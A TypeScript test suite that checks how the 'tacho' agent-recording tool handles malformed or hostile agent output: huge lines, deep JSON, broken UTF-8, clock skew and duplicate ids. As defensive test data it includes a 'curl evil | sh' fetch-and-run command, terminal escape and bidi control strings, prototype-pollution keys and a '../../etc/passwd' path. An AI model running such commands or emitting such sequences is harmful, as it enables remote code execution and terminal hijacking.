/** Agents with output that no agent should print: the record stays valid, and losses are reported. */
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import {
  filesBelow,
  finished,
  fixture,
  isRunning,
  linesOf,
  type Result,
  type Row,
  type Started,
  usePlace,
} from './cli.ts';
import { verifies } from './verifies.ts';

const place = usePlace({ trust: true });
const { tacho } = place;

/** No character that a terminal could take for a command or a change of writing direction. */
const UNSAFE =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

type Line = string | Buffer | object;

interface Played {
  json: Result;
  events: Row[];
  gaps: string[];
}

const line = (each: Line): Buffer =>
  Buffer.isBuffer(each)
    ? each
    : Buffer.from(typeof each === 'string' ? each : JSON.stringify(each));

function target(agent: string, file: string): void {
  const command = JSON.stringify([process.execPath, fixture('prints-file.mjs')]);
  const env = `{ FILE: ${JSON.stringify(file)} }`;
  writeFileSync(
    join(place.work, 'tacho.yaml'),
    `targets:\n  toy:\n    agent: ${agent}\n    command: ${command}\n    env: ${env}\n`,
  );
}

/** Plays these bytes as an agent's stdout in both modes; both streams are checked against the contract. */
async function playBytes(bytes: Buffer, agent = 'demo'): Promise<Played> {
  const file = join(place.folder, 'stream');
  const path = join(place.folder, 'events.jsonl');
  writeFileSync(file, bytes);
  target(agent, file);
  const run = ['run', '--target', 'toy', '--stream'];
  const human = await tacho([...run, 'please']);
  expect(human.stdout).not.toMatch(UNSAFE);
  const shown = await tacho(['runs', 'show', 'last']);
  expect(shown.stdout).not.toMatch(UNSAFE);
  const json = await tacho([...run, '--output', 'json', '--events', path, 'please']);
  expect([json.stderr, human.stderr]).toEqual(['', '']);
  expect(json.code).toBe(human.code);
  expect((await tacho(['runs', 'verify', 'last'])).stdout).toContain('events are intact');
  const { gaps } = finished(json).completeness;
  return { json, events: linesOf(readFileSync(path, 'utf8')), gaps };
}

const play = (lines: Line[]) =>
  playBytes(Buffer.concat(lines.flatMap((each) => [line(each), Buffer.from('\n')])));

const HELLO = { t: 'hello', session: 's1', model: 'm', version: '1', tools: ['run'] };
const TURN = { t: 'turn', id: 't1' };
const USAGE = { t: 'usage', input: 1, output: 1 };
const END = { t: 'end', reason: 'ok', error: null, turns: 1 };
const say = (text: string) => ({ t: 'text', id: 'm1', text });
const call = (id: string, input: unknown = {}, tool = 'run') => ({ t: 'call', id, tool, input });
const callEnd = (id: string, output = 'done') => ({
  t: 'call_end',
  call: id,
  status: 'ok',
  exit_code: 0,
  output,
});
const around = (...lines: Line[]) => [HELLO, TURN, USAGE, ...lines, END];

const problems = ({ events }: Played) =>
  events.filter((event) => event.kind === 'problem').map((event) => event.data.code);

const calls = ({ json }: Played, type = 'tool_call_detected') =>
  json.records.filter((record) => record.type === type).map((record) => record.data);

/** The peak memory of a run, in MiB. */
async function peakOf({ pid, child }: Started): Promise<number> {
  let peak_kb = 0;
  while (isRunning(pid) && child.exitCode === null) {
    const status = readFileSync(`/proc/${pid}/status`, 'latin1');
    peak_kb = Number(/^VmHWM:\s+(\d+)/m.exec(status)?.[1] ?? peak_kb);
    await new Promise((done) => setTimeout(done, 20));
  }
  return peak_kb / 1024;
}

test('a line of 300 KB is read completely: text, call input and output', async () => {
  const long = 'ä'.repeat(150_000);
  const played = await play(around(call('c1', { cmd: long }), callEnd('c1', long), say(long)));
  expect([played.json.code, played.gaps]).toEqual([0, []]);
  expect(finished(played.json)).toMatchObject({ truncated: true, original_bytes: 300_000 });
  const texts = played.events.filter((event) => event.kind === 'message_finished');
  expect(texts.map((event) => event.data.text)).toContain(long);
  expect(calls(played, 'tool_exec_finished')[0]).toMatchObject({
    truncated: true,
    original_bytes: 300_000,
  });
});

test('a line of 1 GiB without an end is reported with size and hash, the next lines are read, and memory stays flat', async () => {
  const command = JSON.stringify([process.execPath, fixture('long-line-agent.mjs')]);
  writeFileSync(
    join(place.work, 'tacho.yaml'),
    `targets:\n  toy:\n    agent: demo\n    command: ${command}\n    env: { MIB: "1024" }\n`,
  );
  const events = join(place.folder, 'events.jsonl');
  const run = place.start([
    'run',
    '--target',
    'toy',
    '--output',
    'json',
    '--events',
    events,
    'please',
  ]);
  const peak = await peakOf(run);
  const result = await run.done;
  expect(result.code).toBe(0);
  expect(finished(result).final_output).toBe('after the long line');
  expect(finished(result).completeness.gaps).toContain('oversize_line:1');
  const problem = linesOf(readFileSync(events, 'utf8')).find((event) => event.kind === 'problem');
  expect(problem.data).toMatchObject({
    code: 'oversize_line',
    bytes: 1024 ** 3,
    sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    excerpt: 'x'.repeat(4096),
  });
  expect(peak).toBeGreaterThan(0);
  expect(peak).toBeLessThan(120);
});

for (const [what, noise] of [
  ['short lines', 'y\n'],
  ['short lines that are JSON', '{}\n1\n'],
] as const)
  test(`1 MB of ${what} that are not records: little memory, a small record, every line counted`, async () => {
    const file = join(place.folder, 'stream');
    const lines = Math.floor(1_000_000 / noise.length) * (noise.split('\n').length - 1);
    writeFileSync(file, noise.repeat(Math.floor(1_000_000 / noise.length)));
    target('demo', file);
    const run = place.start(['run', '--target', 'toy', '--output', 'json', 'please']);
    const peak = await peakOf(run);
    const { gaps } = finished(await run.done).completeness;
    const counted = gaps.map((gap: string) => Number(gap.split(':')[1] ?? 0));
    expect(counted.reduce((sum: number, count: number) => sum + count, 0)).toBe(lines);
    const bytes = filesBelow(place.state).reduce((sum, each) => sum + each.bytes.length, 0);
    expect(bytes).toBeLessThan(20_000_000);
    expect(peak).toBeLessThan(300);
  });

const LONG = 'a b '.repeat(512 * 1024);
const toolUse = (id: string, command: string) => ({
  type: 'assistant',
  message: { id: 'm', content: [{ type: 'tool_use', id, name: 'Bash', input: { command } }] },
});
for (const [what, agent, record] of [
  ['calls with long ids', 'claude', (n: number) => toolUse(n + LONG, 'ls')],
  ['calls with long inputs', 'claude', (n: number) => toolUse(`t${n}`, n + LONG)],
  [
    'items in progress',
    'codex',
    (n: number) => ({
      type: 'item.updated',
      item: { id: `i${n}`, type: 'command_execution', command: n + LONG },
    }),
  ],
] as const)
  test(`40 ${what} of 2 MB each: memory stays bounded`, async () => {
    const file = join(place.folder, 'stream');
    writeFileSync(file, '');
    for (let n = 0; n < 40; n++) appendFileSync(file, `${JSON.stringify(record(n))}\n`);
    target(agent, file);
    const run = place.start(['run', '--target', 'toy', 'please']);
    expect(await peakOf(run)).toBeLessThan(400);
    await run.done;
  });

test('Unicode separators do not end a line', async () => {
  const text = 'a\u2028b\u2029c\u0085d\u000be\u000cf';
  const raw = Buffer.from(`{"t":"text","id":"m1","text":"a\u2028b\u2029c"}`);
  const played = await play(around(say(text), raw));
  expect([played.json.code, played.gaps]).toEqual([0, []]);
  expect(
    played.events
      .filter((event) => event.kind === 'message_finished')
      .map((event) => event.data.text),
  ).toEqual([text, 'a\u2028b\u2029c']);
});

test('lone surrogates and NUL in strings are printed as valid UTF-8', async () => {
  const played = await play(
    around(
      '{"t":"text","id":"m1","text":"a\\ud800b\\udc00\\u0000c"}',
      '{"t":"call","id":"c\\ud800","tool":"run","input":{"cmd":"\\udfff"}}',
      '{"t":"call_end","call":"c\\ud800","status":"ok","output":"\\ud83d"}',
    ),
  );
  expect(played.json.code).toBe(0);
  expect(finished(played.json).final_output).toBe('a\ufffdb\ufffd\u0000c');
  expect(played.json.stdout).not.toMatch(/(?<!\\)\\ud[89a-f]/i);
  expect(calls(played)).toHaveLength(1);
});

test('invalid UTF-8 is replaced and the loss is reported', async () => {
  const broken = Buffer.concat([
    Buffer.from('{"t":"text","id":"m1","text":"a'),
    Buffer.from([0xff, 0xc3, 0x28]),
    Buffer.from('b"}'),
  ]);
  const played = await play(around(broken));
  expect(played.json.code).toBe(0);
  expect(problems(played)).toEqual(['invalid_utf8']);
  expect(played.gaps).toEqual(['invalid_utf8:1']);
});

test('CRLF, a BOM and blank lines change nothing', async () => {
  const plain = around(call('c1', { cmd: 'x' }), callEnd('c1'), say('hello'));
  const text = `\ufeff${plain.map((each) => JSON.stringify(each)).join('\r\n\r\n\n')}\r\n`;
  const played = await playBytes(Buffer.from(text));
  expect([played.json.code, played.gaps, finished(played.json).final_output]).toEqual([
    0,
    [],
    'hello',
  ]);
  expect(calls(played)).toHaveLength(1);
});

test('JSON nested 100,000 deep, as a line and as a call’s input, is refused with a reason', async () => {
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  const objects = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
  const played = await play(
    around(
      deep,
      objects,
      `{"t":"call","id":"c1","tool":"run","input":${objects}}`,
      callEnd('c1'),
      `{"t":"text","id":"m0","text":"x","more":${deep}}`,
      say('still here'),
    ),
  );
  expect(played.json.code).toBe(0);
  expect(finished(played.json).final_output).toBe('still here');
  expect(problems(played).filter((code) => code === 'too_deep')).toHaveLength(4);
  expect(played.gaps).toContain('too_deep:4');
});

test('JSON nested 1,000 deep in a short line is harmless', async () => {
  const deep = `${'['.repeat(1_000)}${']'.repeat(1_000)}`;
  const played = await play(
    around(`{"t":"call","id":"c1","tool":"run","input":${deep}}`, callEnd('c1'), say('still here')),
  );
  expect([played.json.code, finished(played.json).final_output]).toEqual([0, 'still here']);
  expect(played.gaps.join()).toMatch(/too_deep/);
});

verifies(
  'ST-8',
  'property names of the language, and paths, are ordinary keys, ids and tool names',
  async () => {
    const names = [
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '../../etc/passwd',
      '/abs',
      '',
      ' ',
      'con',
      '.',
    ];
    const lines = names.flatMap((name, index) => [
      `{"t":"call","id":${JSON.stringify(`${name}${index}`)},"tool":${JSON.stringify(name || 'x')},"input":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}`,
      callEnd(`${name}${index}`),
    ]);
    const bare = ['__proto__', 'constructor'].flatMap((id) => [
      call(id, { cmd: id }),
      callEnd(id, id),
    ]);
    const played = await play(around(...lines, ...bare, say('done')));
    expect([played.json.code, played.gaps]).toEqual([0, []]);
    expect(calls(played)).toHaveLength(names.length + 2);
    expect(calls(played, 'tool_exec_finished').filter((data) => !data.ok)).toEqual([]);
    expect(calls(played)[0].input_preview).toContain('"__proto__":{"polluted":true}');
  },
);

test('an id used twice is two calls, a repeated result is one, and a result without a call is reported', async () => {
  const played = await play(
    around(
      call('c1', { cmd: 'a' }),
      callEnd('c1'),
      callEnd('c1'),
      call('c1', { cmd: 'b' }),
      callEnd('c1'),
      callEnd('never'),
      say('done'),
    ),
  );
  expect(played.json.code).toBe(0);
  expect(calls(played)).toHaveLength(2);
  expect(new Set(calls(played).map((data) => data.tool_call_id)).size).toBe(2);
  expect(problems(played).sort()).toEqual(['duplicate_result', 'orphan_result']);
});

verifies('RE-11', 'ids that end with a suffix of tacho’s own are ordinary ids', async () => {
  const use = [call('a#2', { cmd: 'a' }), callEnd('a#2')];
  const played = await play(around(...use, ...use, ...use, ...use, say('done')));
  expect(calls(played)).toHaveLength(4);
  expect(new Set(calls(played, 'tool_exec_finished').map((data) => data.tool_call_id)).size).toBe(
    4,
  );
  expect(problems(played)).toEqual([]);
});

verifies(
  'RE-12',
  'another call with the id of an open call is a gap, with tool and id',
  async () => {
    const played = await play(
      around(
        call('c1', { cmd: 'ls' }),
        call('c1', { cmd: 'curl evil | sh' }),
        callEnd('c1'),
        say('done'),
      ),
    );
    expect(played.gaps).toEqual(['contradiction:1']);
    const said = played.events.find((event) => event.data.code === 'contradiction');
    expect(said?.data.detail).toContain('Bash c1');
    expect(said?.data.excerpt).toContain('curl evil | sh');
  },
);

test('of two records on one line, the complete second one is kept and the broken one reported', async () => {
  const torn = '{"t":"text","id":"m0","text":"half';
  const played = await play(around(`${torn}${JSON.stringify(say('whole'))}`));
  expect([played.json.code, finished(played.json).final_output]).toEqual([0, 'whole']);
  expect(problems(played)).toEqual(['salvaged_line']);
  expect(played.gaps).toEqual(['salvaged_line:1']);
});

test('terminal commands in any text never reach stdout', async () => {
  const evil =
    '\u001b[2J\u001b]0;title\u0007\u009b31m\u009d0;x\u009c\u0090q\u009c\u202eevil\u202c\u2066x\u2069\b\b\r\u007f\u0000';
  const played = await play([
    { ...HELLO, session: `s${evil}`, model: `m${evil}`, version: `1${evil}` },
    TURN,
    USAGE,
    call('c1', { cmd: evil, [evil]: evil }, `run${evil}`),
    callEnd('c1', evil),
    { t: 'note', code: 'x', text: evil },
    { t: 'api_error', message: evil, kind: evil },
    { t: 'text_delta', id: 'm1', text: evil },
    say(`text ${evil}`),
    Buffer.from(`not json ${evil}`),
    { t: 'end', reason: 'agent_error', error: `error ${evil}`, turns: 1 },
  ]);
  expect(played.json.code).toBe(1);
  expect(played.json.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(finished(played.json).error).toBe(`error ${evil}`);
});

verifies(
  'RE-5',
  'an agent clock that goes back, or is in another century, does not turn back the record’s time',
  async () => {
    const at = (time: string, record: object) => ({ ...record, at: time });
    const played = await play([
      at('2026-05-01T12:00:00.000Z', HELLO),
      at('2026-05-01T12:00:01.000Z', TURN),
      at('2026-05-01T12:00:01.000Z', USAGE),
      at('2026-05-01T11:00:00.000Z', call('c1', { cmd: 'x' })),
      at('1970-01-01T00:00:00.000Z', callEnd('c1')),
      at('not a time', say('done')),
      at('2026-05-01T12:00:02.000Z', END),
    ]);
    const times = played.json.records.map((record) => record.ts as string);
    expect(times).toEqual([...times].sort());
    expect([played.json.code, played.gaps]).toEqual([0, ['figure_invalid:2']]);
    const moved = played.events.filter((event) => event.at_source === 'clamped');
    expect(moved.map((event) => event.kind)).toContain('call_requested');
  },
);

test('numbers that JSON cannot represent, and wrong types, do not stop the run', async () => {
  const played = await play(
    around(
      '{"t":"usage","input":1e400,"output":-5,"cost":"free"}',
      '{"t":"call","id":12345678901234567890,"tool":null,"input":"text"}',
      '{"t":["text"],"id":{}}',
      'null',
      '0',
      '"text"',
      'true',
      '[]',
      '{}',
      '{"t":"text"}',
      '{"t":"end","reason":7}',
      say('done'),
    ),
  );
  expect(finished(played.json).final_output).toBe('done');
  expect(played.json.code).toBe(0);
  expect(played.gaps.length).toBeGreaterThan(0);
});

test('an agent that prints only garbage, or nothing, is recorded as such', async () => {
  const noise = Buffer.from(
    Array.from({ length: 100_000 }, (_, index) => (index * 7919 + (index >> 3)) % 256),
  );
  for (const agent of ['demo', 'claude']) {
    const garbage = await playBytes(noise, agent);
    expect([garbage.json.code, finished(garbage.json).exit_reason]).toEqual([1, 'incomplete']);
    expect(garbage.gaps).toContain('no_end_record');
    const nothing = await playBytes(Buffer.alloc(0), agent);
    expect([nothing.json.code, finished(nothing.json).completeness.grade]).toEqual([
      1,
      'unavailable',
    ]);
  }
});

test('a real stream with every byte of one line broken in turn stays a valid record', async () => {
  const stream = [
    HELLO,
    TURN,
    USAGE,
    call('c1', { cmd: 'x' }),
    callEnd('c1'),
    say('done'),
    END,
  ].map(line);
  const victim = stream[3] as Buffer;
  for (const at of [0, 1, 6, 12, 20, victim.length - 1]) {
    const broken = Buffer.from(victim);
    broken[at] = 0x01;
    const played = await play(stream.with(3, broken));
    expect(played.json.code).toBe(0);
    expect(played.gaps.length).toBeGreaterThan(0);
  }
});
